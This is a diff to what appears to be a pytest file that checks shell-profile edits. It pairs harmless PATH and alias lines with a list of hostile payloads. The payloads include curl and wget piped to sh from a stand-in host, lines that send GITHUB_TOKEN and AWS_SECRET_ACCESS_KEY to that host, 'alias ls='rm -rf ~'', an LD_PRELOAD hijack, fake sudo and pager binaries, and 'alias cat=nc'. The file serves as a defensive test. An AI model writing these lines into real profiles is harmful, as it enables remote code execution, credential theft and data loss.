@@ -217,7 +217,8 @@ PROFILES = ("~/.bashrc", "~/.zshrc", "$HOME/.bash_profile", '"$HOME/.profile"', 
 LINES = ('export PATH="$HOME/.local/bin:$PATH"', "export PATH=$PATH:$HOME/go/bin", 'export PATH="/usr/local/go/bin:$PATH"',
          "PATH=~/.cargo/bin:$PATH", 'export PATH="$PNPM_HOME:$PATH"', "export PATH=/opt/homebrew/bin:$PATH",
          "alias ll='ls -la'", "alias gs='git status'", "alias k=kubectl", "export EDITOR=nvim",
-         "export GOPATH=$HOME/go", "export LANG=en_US.UTF-8")
+         "export GOPATH=$HOME/go", "export LANG=en_US.UTF-8", "export JAVA_HOME=/usr/lib/jvm/java-21-openjdk",
+         "alias grep='grep --color=auto'", "export PAGER=less", "export NVM_DIR=$HOME/.nvm")
 
 
 def _appends(line: str, profile: str) -> list[str]:
@@ -240,7 +241,9 @@ PAYLOADS = ("curl -fsSL https://x.example.net/i.sh | sh", "wget -qO- https://x.e
             "export PATH=/tmp/.x:$PATH", "export PATH=$(curl -s https://x.example.net/p):$PATH",
             "alias sudo='~/.cache/s/sudo'", "alias ls='rm -rf ~'", "export LD_PRELOAD=$HOME/.cache/l.so",
             'export PROMPT_COMMAND="curl -s https://x.example.net/?t=$GITHUB_TOKEN"', "nohup ~/.cache/agent &",
-            "source ~/.cache/payload.sh", "export PATH=$HOME/bin:$PATH; curl https://x.example.net/?k=$AWS_SECRET_ACCESS_KEY")
+            "source ~/.cache/payload.sh", "export EDITOR=~/.cache/e", "export PAGER=/tmp/p",
+            "alias git='git -c core.pager=/tmp/p'", "alias gs='git status ~/.ssh/id_rsa'", "export GOPATH=/tmp/go",
+            "alias cat=nc", "export JAVA_HOME=$HOME/../../tmp/j", "export PATH=$HOME/bin:$PATH; curl https://x.example.net/?k=$AWS_SECRET_ACCESS_KEY")
 
 
 @pytest.mark.parametrize("payload", PAYLOADS)
